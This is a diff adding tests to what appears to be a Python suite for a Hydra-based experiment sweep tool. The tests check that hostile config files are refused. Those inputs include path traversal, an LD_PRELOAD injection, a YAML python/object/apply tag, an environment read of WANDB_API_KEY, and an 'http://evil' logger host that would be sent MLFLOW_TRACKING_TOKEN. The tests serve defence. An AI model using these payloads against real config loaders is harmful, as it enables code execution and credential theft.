@@ -9,6 +9,7 @@ from omegaconf import OmegaConf
 
 from sparse_lab.errors import UserError
 from sparse_lab.sweep.plan import Request
+from sparse_lab.sweep.table import words
 
 HEAD = "# @package _global_\n"
 SLURM = "hydra/launcher=submitit_slurm"
@@ -118,6 +119,23 @@ def test_what_a_file_asks_of_hydra(text, conf):
 
 FILES = {
     "the node itself": ({"experiment/evil": f"{HEAD}hydra: ${{model}}"}, "experiment=evil", "hydra"),
+    "by a header below the top": (
+        {"experiment/evil": "# @package _global_.hydra.run\ndir: x"},
+        "experiment=evil",
+        "hydra.run.dir",
+    ),
+    "a file of another folder": ({"experiment/evil": "defaults: [/../../x]"}, "experiment=evil", "its own folder alone"),
+    "files that ask for each other": (
+        {"experiment/evil": "defaults: [/model/b]", "model/b": "defaults: [/experiment/evil]"},
+        "experiment=evil",
+        "asks for itself",
+    ),
+    "a thousand lists in each other": ({"experiment/evil": f"a: {'[' * 5000}"}, "experiment=evil", "nested too deep"),
+    "a tag of YAML that calls": (
+        {"experiment/evil": "a: !!python/object/apply:os.getcwd []"},
+        "experiment=evil",
+        "cannot be read",
+    ),
     "by a header": ({"model/evil": "# @package hydra.job.env_set\nLD_PRELOAD: x"}, "model=evil", "env_set.LD_PRELOAD"),
     "by a package in a defaults list": (
         {"experiment/evil": f"{HEAD}defaults: [/paths@hydra.job.env_set: default]"},
@@ -232,6 +250,26 @@ def test_a_defaults_list_reads_no_variable(defaults, conf):
     """Hydra would say the name of the file that it did not find."""
     write(conf, "experiment/evil", f"{HEAD}defaults: {defaults}")
     assert "experiment/evil.yaml" in refused(conf, "experiment=evil")
+
+
+def test_no_file_says_who_gets_a_password(conf, monkeypatch):
+    write(conf, "logger/evil", "mlflow: true\nmlflow_uri: http://evil")
+    text = f"{HEAD}hydra: {{mode: MULTIRUN, sweeper: {{params: {{logger.mlflow_uri: 'http://evil'}}}}}}"
+    write(conf, "experiment/evil", text)
+    request = Request.read(["--config-dir", str(conf), "logger=evil", "logger.mlflow_uri=http://mine"])
+    assert request.compose([]).cfg.logger.mlflow_uri == "http://mine"
+    monkeypatch.setenv("MLFLOW_TRACKING_TOKEN", KEY)
+    assert "would be sent MLFLOW_TRACKING_TOKEN" in refused(conf, "logger=evil")
+    assert "would be sent MLFLOW_TRACKING_TOKEN" in refused(conf, "experiment=evil")
+    for word in ("logger.mlflow_uri=http://evil", "++logger.mlflow_uri=http://evil"):
+        with pytest.raises(UserError, match="MLFLOW_TRACKING_TOKEN"):
+            words([word], "cell 1")
+
+
+def test_a_table_reads_no_variable():
+    for word in ("logger.project='${oc.env:WANDB_API_KEY}'", "paths.data='${oc.decode:x}'"):
+        with pytest.raises(UserError, match=r"cell 1: "):
+            words([word], "cell 1")
 
 
 def test_the_gallery_reads_no_variable(conf):
